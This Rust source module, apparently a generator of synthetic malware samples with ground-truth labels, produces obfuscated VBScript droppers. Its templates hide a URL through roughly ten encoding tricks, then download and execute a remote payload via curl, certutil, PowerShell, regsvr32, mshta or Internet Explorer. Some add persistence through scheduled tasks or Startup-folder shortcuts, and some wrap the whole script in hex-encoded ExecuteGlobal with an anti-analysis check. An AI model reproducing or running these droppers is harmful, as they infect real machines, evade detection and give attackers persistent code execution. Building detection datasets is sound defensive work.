//! Droppers in VBScript.

use crate::generator::{Dice, Truth, codes, each, hex, put, quoted, reversed};
use std::fmt::Write;

const FILES: &[&str] = &[".exe", ".dll", ".gif", ".bin", ".txt", ""];

/// An expression of which `text` is the value; `before` gets what must stand in front of it.
fn hide(dice: &mut Dice, text: &str, before: &mut String) -> String {
    let name = dice.name();
    let other = dice.name();
    match dice.below(10) {
        0 => each(text, " & ", |it| format!("Chr(&O{it:o})")),
        1 => {
            let mut noisy = String::new();
            for letter in text.chars() {
                noisy.push(letter);
                noisy.push_str(dice.pick(&["Qz", "!_", "77", "Kk"]));
            }
            let _ = writeln!(
                before,
                "{other} = \"{noisy}\"\nDo While Len({other}) > 0\n  {name} = {name} & Left({other}, 1)\n  {other} = Mid({other}, 4)\nLoop"
            );
            name
        }
        2 => {
            let letters = "abcdefghijklmnopqrstuvwxyz0123456789";
            let table = dice.shuffled(letters);
            let turned: String = text
                .chars()
                .map(|it| letters.find(it).and_then(|at| table.chars().nth(at)).unwrap_or(it))
                .collect();
            let _ = writeln!(
                before,
                "Function {name}(t)\n  Dim p, i\n  For i = 1 To Len(t)\n    p = InStr(\"{table}\", Mid(t, i, 1))\n    If p > 0 Then {name} = {name} & Mid(\"{letters}\", p, 1) Else {name} = {name} & Mid(t, i, 1)\n  Next\nEnd Function"
            );
            format!("{name}(\"{turned}\")")
        }
        3 => {
            let pieces = dice.pieces(text);
            let words: Vec<String> = pieces
                .iter()
                .enumerate()
                .map(|(at, piece)| match at % 3 {
                    0 => format!("Trim(\"  {piece} \")"),
                    1 => format!("Right(\"{other}{piece}\", {})", piece.len()),
                    _ => format!("Left(\"{piece}{other}\", {})", piece.len()),
                })
                .collect();
            words.join(" & ")
        }
        4 => {
            let _ = writeln!(
                before,
                "Set {name} = CreateObject(\"Scripting.Dictionary\")\n{}",
                dice.pieces(text)
                    .iter()
                    .enumerate()
                    .map(|(at, piece)| format!("{name}({at}) = \"{piece}\"\n"))
                    .collect::<String>()
                    .trim_end()
            );
            format!("Join({name}.Items, \"\")")
        }
        5 => {
            let _ = writeln!(
                before,
                "Function {name}(h)\n  Dim x\n  Set x = CreateObject(\"Microsoft.XMLDOM\").createElement(\"e\")\n  x.DataType = \"bin.hex\"\n  x.Text = h\n  Dim i, b\n  b = x.NodeTypedValue\n  For i = 1 To LenB(b)\n    {name} = {name} & Chr(AscB(MidB(b, i, 1)))\n  Next\nEnd Function"
            );
            format!("{name}(\"{}\")", hex(text.as_bytes()))
        }
        6 => {
            let _ = writeln!(
                before,
                "Class C{name}\n  Private v\n  Private Sub Class_Initialize()\n    v = \"{}\"\n  End Sub\n  Public Property Get Value()\n    Value = StrReverse(v)\n  End Property\nEnd Class\nSet {name} = New C{name}",
                reversed(text)
            );
            format!("{name}.Value")
        }
        7 => {
            let mul = 3 + dice.below(5);
            let list: Vec<String> =
                text.bytes().map(|it| (usize::from(it) * mul + 11).to_string()).collect();
            let _ = writeln!(
                before,
                "{other} = Array({})\n{name} = \"\"\ni = 0\nWhile i <= UBound({other})\n  {name} = {name} & Chr(({other}(i) - 11) \\ {mul})\n  i = i + 1\nWend",
                list.join(", ")
            );
            name
        }
        8 => {
            let words = quoted(&dice.pieces(text), '"');
            let _ = writeln!(before, "Dim {name}({})", words.len() - 1);
            for at in dice.order(words.len()) {
                let _ = writeln!(before, "{name}({at}) = {}", words[at]);
            }
            let _ = writeln!(
                before,
                "{other} = Empty\nFor n = 0 To UBound({name}) : {other} = {other} & {name}(n) : Next"
            );
            other
        }
        _ => {
            let _ = writeln!(
                before,
                "Sub {name}(ByRef s, c)\n  s = s & Chr(c)\nEnd Sub\n{other} = \"\"\nFor Each k In Split(\"{}\", \",\") : Call {name}({other}, CLng(k)) : Next",
                codes(text.bytes(), ",")
            );
            other
        }
    }
}

pub(super) fn dropper(dice: &mut Dice, truth: &mut Truth) -> String {
    let mut before = String::new();
    let line = delivery(dice, truth, &mut before);
    let text = match dice.below(6) {
        0 => {
            let code = format!("{before}{line}").replace('\n', "\r\n");
            let mut lines = String::new();
            for part in code.as_bytes().chunks(80) {
                let _ = writeln!(lines, "p = p & \"{}\"", hex(part));
            }
            format!(
                "Dim p, q, j\n{lines}j = 1\nDo\n  q = q & Chr(Eval(\"&H\" & Mid(p, j, 2)))\n  j = j + 2\nLoop Until j > Len(p)\nExecuteGlobal q\n"
            )
        }
        1 => format!(
            "If WScript.Arguments.Count = 99 Then WScript.Quit\nOn Error Resume Next\nRandomize\nIf Int(Rnd * 1) = 0 Then\n  r = 1\nEnd If\n{before}{line}"
        ),
        _ => format!("On Error Resume Next\n{before}{line}"),
    };
    text.replace('\n', "\r\n")
}

fn delivery(dice: &mut Dice, truth: &mut Truth, before: &mut String) -> String {
    let file = dice.name();
    let var = dice.name();
    let url = truth.url(dice, FILES);
    let word = hide(dice, &url, before);
    let template = dice.pick(&[
        "Set @V@ = CreateObject(\"InternetExplorer.Application\")\n@V@.Visible = False\n@V@.Navigate @U@\nDo While @V@.Busy : WScript.Sleep 100 : Loop\nExecute @V@.Document.body.innerText\n",
        "Set @V@ = CreateObject(\"Microsoft.XMLDOM\")\n@V@.async = False\n@V@.load @U@\nSet y = CreateObject(\"Microsoft.XMLDOM\")\ny.transformNode @V@\n",
        "Set sh = CreateObject(\"WScript.Shell\")\nSet e = sh.Exec(\"cmd.exe\")\ne.StdIn.WriteLine \"curl -s -o %TEMP%\\@F@.exe \" & @U@\ne.StdIn.WriteLine \"%TEMP%\\@F@.exe\"\ne.StdIn.Close\n",
        "c = \"schtasks /create /f /sc minute /mo 30 /tn @F@ /tr \"\"mshta \" & @U@ & \"\"\"\"\nCreateObject(\"WScript.Shell\").Run c, 0, False\n",
        "Const adTypeBinary = 1\nFunction Fetch(where)\n  On Error Resume Next\n  Dim r\n  For Each p In Array(\"MSXML2.ServerXMLHTTP.6.0\", \"MSXML2.ServerXMLHTTP\", \"Microsoft.XMLHTTP\")\n    Set r = CreateObject(p)\n    If Err.Number = 0 Then Exit For\n    Err.Clear\n  Next\n  Call r.Open(\"GET\", where, False)\n  Call r.setRequestHeader(\"Cache-Control\", \"no-cache\")\n  Call r.Send()\n  Fetch = r.responseBody\nEnd Function\nWith CreateObject(\"ADODB.Stream\")\n  .Type = adTypeBinary\n  .Open\n  .Write Fetch(@U@)\n  .SaveToFile \"C:\\Users\\Public\\@F@.dll\", 2\nEnd With\nCreateObject(\"WScript.Shell\").Run \"regsvr32 /s C:\\Users\\Public\\@F@.dll\", 0\n",
        "link = @U@\nCreateObject(\"WScript.Shell\").Run Replace(\"cmd /c powershell -c \"\"Invoke-WebRequest %1 -OutFile $env:TEMP\\@F@.exe\"\"; start $env:TEMP\\@F@.exe\", \"%1\", link), 0\n",
        "Set fs = CreateObject(\"Scripting.FileSystemObject\")\nSet b = fs.CreateTextFile(fs.GetSpecialFolder(2) & \"\\@F@.bat\", True)\nb.WriteLine \"@echo off\"\nb.WriteLine \"certutil -urlcache -f \" & @U@ & \" %TEMP%\\@F@.exe\"\nb.WriteLine \"start %TEMP%\\@F@.exe\"\nb.Close\nCreateObject(\"Shell.Application\").Open fs.GetSpecialFolder(2) & \"\\@F@.bat\"\n",
        "Set lnk = CreateObject(\"WScript.Shell\").CreateShortcut(CreateObject(\"WScript.Shell\").SpecialFolders(\"Startup\") & \"\\@F@.lnk\")\nlnk.TargetPath = \"mshta.exe\"\nlnk.Arguments = @U@\nlnk.Save\n",
    ]);
    put(template, &[("U", &word), ("F", &file), ("V", &var)])
}
